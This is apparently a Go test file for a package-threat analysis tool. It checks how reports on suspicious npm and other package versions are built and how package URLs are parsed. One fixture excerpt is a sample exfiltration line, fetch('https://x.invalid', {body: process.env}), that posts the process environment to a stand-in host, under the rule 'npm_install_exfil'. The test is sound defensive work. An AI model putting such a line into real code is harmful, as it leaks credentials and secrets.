package analysis

import (
	"strings"
	"testing"
	"time"

	"github.com/threatd/threatd/core"
)

// TestSubmission: a suspicious version's report is a valid package report
// of its version, its severity the strongest new finding's, its payload
// listing every finding with its place, newness and excerpt (a fence in an
// excerpt cannot close the block).
func TestSubmission(t *testing.T) {
	t.Parallel()
	k := Key{Ecosystem: "npm", Name: "@evil/pad", Version: "1.0.1"}
	r := Judge([]Finding{
		{Rule: "npm_install_exfil", Severity: SeverityCritical, File: "index.js", Line: 3, Excerpt: "fetch('https://x.invalid', {body: process.env}) ~~~~", Description: "posts the environment"},
		{Rule: "net_socket", Severity: SeverityLow, File: "lib/a.js"},
	}, []Finding{{Rule: "net_socket", File: "lib/a.js"}}, true, SeverityHigh)
	r.Analyzers = []string{"rules"}
	s := Submission(k, r)
	th, err := core.NewThreat(s, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if th.ReportType != core.TypePackage || th.ResourceIdentifier != "@evil/pad" || th.Details.VersionInfo != "1.0.1" || th.Details.SeverityLevel != core.SeverityCritical ||
		!strings.Contains(th.Details.ThreatDescription, "npm_install_exfil, new in this version") {
		t.Fatalf("report: %+v", th)
	}
	p := th.Details.PayloadDescription
	for _, want := range []string{"1. **critical** `npm_install_exfil` in `index.js:3` (new in this version): posts the environment", "2. **low** `net_socket` in `lib/a.js` (also in the previous version)", "~ ~ ~ ~"} {
		if !strings.Contains(p, want) {
			t.Errorf("payload lacks %q:\n%s", want, p)
		}
	}
	if strings.Count(p, "~~~~") != 2 {
		t.Errorf("the excerpt's fence closes the block:\n%s", p)
	}
}

func TestKeyOfPurl(t *testing.T) {
	t.Parallel()
	for purl, want := range map[string]Key{
		"pkg:npm/%40evil/pad@1.0.1":       {"npm", "@evil/pad", "1.0.1"},
		"pkg:pypi/My_Lib@1.0":             {"pypi", "my-lib", "1.0"},
		"pkg:golang/example.com/m@v1.2.3": {"go", "example.com/m", "v1.2.3"},
		"pkg:gem/rails@7.0.0":             {"rubygems", "rails", "7.0.0"},
		"pkg:cargo/serde@1.0.0":           {"crates.io", "serde", "1.0.0"},
	} {
		got, err := KeyOfPurl(purl)
		if err != nil || got != want {
			t.Errorf("%s: %+v %v, want %+v", purl, got, err, want)
		}
		if back, err := KeyOfPurl(got.Purl()); err != nil || back != got {
			t.Errorf("%s: its purl %s reads as %+v %v", purl, got.Purl(), back, err)
		}
	}
	for _, bad := range []string{"pkg:npm/x", "pkg:maven/a/b@1", "not a purl"} {
		if _, err := KeyOfPurl(bad); err == nil {
			t.Errorf("%s accepted", bad)
		}
	}
}
